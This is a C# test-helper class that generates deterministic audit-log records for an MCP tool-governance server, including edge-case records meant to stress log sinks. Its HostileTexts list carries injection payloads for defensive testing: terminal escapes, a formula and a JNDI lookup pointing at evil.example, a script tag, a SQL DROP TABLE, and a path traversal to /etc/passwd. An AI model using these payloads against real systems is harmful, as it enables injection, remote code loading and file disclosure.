using System.Globalization;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;

namespace McpGovernance.Testing;

/// <summary>Makes records like those of a busy server, and those that break sinks. The same arguments make the same bytes.</summary>
/// <remarks>Thread safe.</remarks>
public static class AuditRecords
{
    /// <summary>What one line of a journal may have.</summary>
    public const int MaxRecordBytes = 64 << 10;

    private static readonly string[] Tools = ["search_tickets", "create_ticket", "close_ticket", "refund_order", "export_customers"];
    private static readonly string[] People = ["alice@example.com", "bob@example.com", "carol@example.com", "søren@example.dk", "李雷@example.cn"];
    private static readonly DateTimeOffset Start = new(2026, 1, 5, 8, 0, 0, TimeSpan.Zero);
    private static readonly JsonWriterOptions Raw = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    /// <summary>The name of a log, different for each number.</summary>
    /// <param name="number">Any number.</param>
    /// <returns>The name.</returns>
    public static string Log(int number) => string.Create(CultureInfo.InvariantCulture, $"log-0195f1c200007000800000{number & 0xFFFFFF:x6}0000");

    /// <summary>Records of calls as they follow each other: intents, outcomes, refusals and lists.</summary>
    /// <param name="log">The log.</param>
    /// <param name="firstSeq">The number of the first record.</param>
    /// <param name="count">How many.</param>
    /// <param name="epoch">The epoch.</param>
    /// <returns>A batch.</returns>
    /// <exception cref="ArgumentException"><paramref name="log"/> is empty, or a number is less than 1.</exception>
    public static AuditBatch Batch(string log, long firstSeq, int count, long epoch = 1)
    {
        ArgumentException.ThrowIfNullOrEmpty(log);
        ArgumentOutOfRangeException.ThrowIfLessThan(firstSeq, 1);
        ArgumentOutOfRangeException.ThrowIfLessThan(count, 1);
        return new AuditBatch(Enumerable.Range(0, count).Select(i => Call(log, epoch, firstSeq + i)));
    }

    /// <summary>A record with a text of the test's own.</summary>
    /// <param name="log">The log.</param>
    /// <param name="seq">The number of the record.</param>
    /// <param name="text">Stands in <c>target.name</c>, as it is: only what JSON must escape is.</param>
    /// <param name="epoch">The epoch.</param>
    /// <returns>The record.</returns>
    public static AuditRecord WithText(string log, long seq, string text, long epoch = 1) => Write(log, epoch, seq, "call.outcome", json =>
    {
        json.WriteStartObject("target");
        json.WriteString("kind", "tool");
        json.WriteString("name", text);
        json.WriteEndObject();
    });

    /// <summary>A record of exactly <see cref="MaxRecordBytes"/> bytes, the most that a line may have.</summary>
    /// <param name="log">The log.</param>
    /// <param name="seq">The number of the record.</param>
    /// <returns>The record.</returns>
    public static AuditRecord Largest(string log, long seq)
    {
        var rest = MaxRecordBytes - WithText(log, seq, "").Utf8Json.Length;
        return WithText(log, seq, new string('x', rest));
    }

    /// <summary>A record with characters of every plane of Unicode, <c>\u0000</c>, and marks that turn text around.</summary>
    /// <param name="log">The log.</param>
    /// <param name="seq">The number of the record.</param>
    /// <returns>The record.</returns>
    public static AuditRecord EveryPlane(string log, long seq)
    {
        var text = new StringBuilder("\0\u0001\u001b[31m\u007f\u0085\u2028\u2029\u202e\ufeff\ufffdé日");
        for (var plane = 0; plane <= 16; plane++)
        {
            text.Append(char.ConvertFromUtf32((plane << 16) + 0xE000)).Append(char.ConvertFromUtf32((plane << 16) + 0xFFFD));
        }

        return WithText(log, seq, text.ToString());
    }

    /// <summary>A record with numbers at the limits of what a double and a long can hold, and numbers that look different and are equal.</summary>
    /// <param name="log">The log.</param>
    /// <param name="seq">The number of the record.</param>
    /// <returns>The record.</returns>
    public static AuditRecord NumbersAtTheLimits(string log, long seq) => Write(log, 1, seq, "call.outcome", static json =>
    {
        json.WritePropertyName("outcome");
        json.WriteRawValue("""{"a":9007199254740991,"b":9007199254740992,"c":9007199254740993,"d":-9007199254740993,"e":9223372036854775807,"f":1.0,"g":1.00,"h":1e2,"i":-0,"j":0.1234567890123456789}""");
    });

    /// <summary>Texts that do harm where they are shown without care: line ends, controls of terminals, formulas, markup, quotes, templates.</summary>
    public static IReadOnlyList<string> HostileTexts { get; } =
    [
        "two\r\nlines", "\u001b]0;owned\u0007\u001b[2J", "=HYPERLINK(\"https://evil.example\")", "+1", "@SUM(A1)", "<script>alert(1)</script>", "'; DROP TABLE audit; --",
        "{0} {Record} %s ${jndi:ldap://evil.example}", "\\\"}\n{\"v\":1}", "../../etc/passwd\0",
    ];

    /// <summary>A record of a version and type that nobody knows yet.</summary>
    /// <param name="log">The log.</param>
    /// <param name="seq">The number of the record.</param>
    /// <returns>The record.</returns>
    public static AuditRecord Unknown(string log, long seq) =>
        AuditRecord.Parse(Encoding.UTF8.GetBytes(string.Create(CultureInfo.InvariantCulture, $"{{\"seq\":{seq},\"log\":\"{log}\",\"epoch\":1,\"v\":99,\"type\":\"not.yet.known\",\"new\":[{{}},null,true]}}")));

    private static AuditRecord Call(string log, long epoch, long seq)
    {
        var call = (seq - 1) / 3;
        return (seq % 3) switch
        {
            1 => Write(log, epoch, seq, "call.intent", json => Intent(json, call)),
            2 => Write(log, epoch, seq, "call.outcome", json => Outcome(json, call)),
            _ => Write(log, epoch, seq, call % 2 == 0 ? "list.view" : "call.refused", json => Counted(json, call)),
        };
    }

    private static void Intent(Utf8JsonWriter json, long call)
    {
        CallAndCaller(json, call);
        json.WriteString("method", "tools/call");
        json.WriteStartObject("target");
        json.WriteString("kind", "tool");
        json.WriteString("name", Tools[call % Tools.Length]);
        json.WriteEndObject();
        json.WriteStartObject("inputs");
        json.WriteNumber("size", 40 + (call % 900));
        json.WriteString("alg", "hmac-sha256");
        json.WriteString("value", Convert.ToBase64String(BitConverter.GetBytes(call * 7919)));
        json.WriteEndObject();
        json.WriteStartObject("decision");
        json.WriteString("verdict", "allow");
        json.WriteString("entry", "matrix/support");
        json.WriteEndObject();
    }

    private static void Outcome(Utf8JsonWriter json, long call)
    {
        json.WriteString("call", Id(call));
        json.WriteStartObject("outcome");
        json.WriteString("status", call % 11 == 0 ? "tool_error" : "done");
        json.WriteNumber("ms", 3.25m + (call % 400));
        json.WriteNumber("resultSize", 200 + (call % 5000));
        json.WriteEndObject();
    }

    private static void Counted(Utf8JsonWriter json, long call)
    {
        CallAndCaller(json, call);
        json.WriteNumber("count", 1 + (call % 9));
    }

    private static void CallAndCaller(Utf8JsonWriter json, long call)
    {
        json.WriteString("call", Id(call));
        json.WriteStartObject("caller");
        json.WriteString("kind", "authenticated");
        json.WriteBoolean("verified", true);
        json.WriteString("issuer", "https://login.example.com/");
        json.WriteString("subject", People[call % People.Length]);
        json.WriteEndObject();
    }

    private static string Id(long call) => string.Create(CultureInfo.InvariantCulture, $"0195f1c2-0000-7000-9000-{call & 0xFFFFFFFFFFFF:x12}");

    private static AuditRecord Write(string log, long epoch, long seq, string type, Action<Utf8JsonWriter> body)
    {
        using var bytes = new MemoryStream();
        using (var json = new Utf8JsonWriter(bytes, Raw))
        {
            json.WriteStartObject();
            json.WriteNumber("seq", seq);
            json.WriteString("log", log);
            json.WriteNumber("epoch", epoch);
            json.WriteNumber("v", 1);
            json.WriteString("type", type);
            json.WriteString("id", string.Create(CultureInfo.InvariantCulture, $"0195f1c2-0000-7000-8000-{((epoch << 40) | seq) & 0xFFFFFFFFFFFF:x12}"));
            json.WriteString("time", Start.AddMilliseconds(37 * seq).UtcDateTime.ToString("O", CultureInfo.InvariantCulture));
            body(json);
            json.WriteEndObject();
        }

        return AuditRecord.Parse(bytes.ToArray());
    }
}
